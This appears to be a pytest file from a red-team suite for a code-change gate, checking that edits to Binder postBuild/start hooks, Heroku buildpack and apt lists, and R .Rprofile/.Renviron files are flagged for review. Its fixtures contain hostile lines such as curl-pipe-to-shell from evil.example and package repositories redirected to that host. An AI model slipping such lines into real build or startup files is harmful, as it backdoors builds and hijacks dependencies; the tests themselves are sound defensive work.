"""Red team 36: the files a platform builds an image or slug from when the repository has no Dockerfile, and the
files every R session of a project reads before anything else.

repo2docker (the builder behind Binder) makes a container image from a repository's root, or its `binder/` or
`.binder/` folder when there is one: it writes the Dockerfile itself, runs `postBuild` as a build step and `start`
as the image's entry point, installs the system packages of `apt.txt` and the R packages `install.R` installs. A
`binder/Dockerfile` is `iac.containers`; its `postBuild` (the same image's RUN line) was `src`, so the default gate
allowed a change that makes the image build run `curl … | sh` (exit 0 with --tree). Heroku's apt buildpack installs
the packages of an `Aptfile`, and `.buildpacks` names the buildpacks (git repositories of build code) Heroku's multi
buildpack and Dokku run on deploy; `Procfile`, `app.json` and `.slugignore` are `iac.platforms`, these two were `src`.

R runs the project's `.Rprofile` and reads its `.Renviron` at the start of every session in the folder (`Rscript`
in CI too): renv's `source("renv/activate.R")` lives there, as do `options(repos = …)` (where packages come from) and
`RENV_CONFIG_REPOS_OVERRIDE` (the repository renv restores the lockfile from). renv/activate.R is
`deps.renv.settings`; the two files that decide whether it runs and where packages come from were `src`:
`gate --enable deps` allowed a move of the package repository to another host (exit 0 with --tree).

Each variant is one real repository, git's own patch and the CLI's packet, gated from the patch and with --tree.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from tables import each_case

HOOK = "#!/bin/bash\nset -e\npip install -e .\n"
EVIL = HOOK + "curl -fsSL https://evil.example/setup | sh\n"
START = '#!/bin/bash\nexec "$@"\n'
EVIL_START = '#!/bin/bash\ncurl -fsSL https://evil.example/agent | sh &\nexec "$@"\n'
BUILDPACKS = "https://github.com/heroku/heroku-buildpack-python\n"
PROFILE = 'source("renv/activate.R")\n'
# (path, BASE's text or None when the change adds the file, HEAD's text)
IMAGE = {  # iac: the default gate must review
    "root-postBuild": ("postBuild", HOOK, EVIL),
    "binder-postBuild": ("binder/postBuild", HOOK, EVIL),
    "dot-binder-postBuild-added": (".binder/postBuild", None, EVIL),
    "binder-start": ("binder/start", START, EVIL_START),
    "dot-binder-start": (".binder/start", START, EVIL_START),
    "buildpacks-added": (".buildpacks", None, "https://github.com/evil-example/buildpack\n" + BUILDPACKS),
    "buildpacks-swapped": (".buildpacks", BUILDPACKS, BUILDPACKS.replace("heroku/", "evil-example/")),
}
PACKAGES = {  # deps: gate --enable deps must review
    "binder-apt": ("binder/apt.txt", "libgl1\n", "libgl1\nevil-tools\n"),
    "root-apt": ("apt.txt", "graphviz\n", "graphviz\nevil-tools\n"),
    "binder-install-R": ("binder/install.R", 'install.packages("ggplot2")\n',
                         'install.packages("ggplot2")\ninstall.packages("evil", repos = "https://evil.example")\n'),
    "heroku-aptfile": ("Aptfile", "libpq-dev\n", "libpq-dev\nhttps://evil.example/tool.deb\n"),
    "rprofile-repos": (".Rprofile", PROFILE,
                       PROFILE + 'options(repos = c(CRAN = "https://evil.example/cran"))\n'),
    "rprofile-no-renv": (".Rprofile", PROFILE, 'source("tools/activate.R")\n'),
    "rprofile-package-folder": ("pkg/.Rprofile", PROFILE, PROFILE + 'options(repos = "https://evil.example")\n'),
    "renviron-override": (".Renviron", None, "RENV_CONFIG_REPOS_OVERRIDE=https://evil.example/cran\n"),
    "renviron-library": ("pkg/.Renviron", "R_MAX_NUM_DLLS=200\n", "R_MAX_NUM_DLLS=200\nR_LIBS=/tmp/evil-lib\n"),
}
# The same names where no builder reads them: they stay what they were (allowed by the default gate).
LOOK_ALIKES = {
    "nested-start": ("base-notebook/start", START, EVIL_START),
    "tools-postBuild": ("tools/postBuild", HOOK, EVIL),
    "docs-apt": ("docs/apt.txt", "graphviz\n", "graphviz\nplantuml\n"),
}


def _case(tmp_path: Path, path: str, old: str | None, new: str):
    return committed(tmp_path, {path: old} if old is not None else {}, {path: new})


@each_case("name", IMAGE)
def test_an_image_or_slug_build_input_is_infrastructure(tmp_path: Path, name: str) -> None:
    path, old, new = IMAGE[name]
    case = _case(tmp_path, path, old, new)
    for tree in (False, True):
        code, named = gated_rules(case, tree)
        assert (code, named.get("core.iac")) == (3, [path]), (tree, named)  # before: src (exit 0 with --tree)


@each_case("name", PACKAGES)
def test_a_package_list_or_r_startup_file_is_a_dependency_file(tmp_path: Path, name: str) -> None:
    path, old, new = PACKAGES[name]
    case = _case(tmp_path, path, old, new)
    for tree in (False, True):
        code, named = gated_rules(case, tree, "deps")
        assert code == 3 and path in named.get("deps.unexplained", []), (tree, named)  # before: src, exit 0 (--tree)


@pytest.mark.parametrize("name", LOOK_ALIKES)
def test_the_same_names_elsewhere_stay_allowed(tmp_path: Path, name: str) -> None:
    path, old, new = LOOK_ALIKES[name]
    case = _case(tmp_path, path, old, new)
    code, named = gated_rules(case, True, "deps")
    assert (code, named) == (0, {}), named
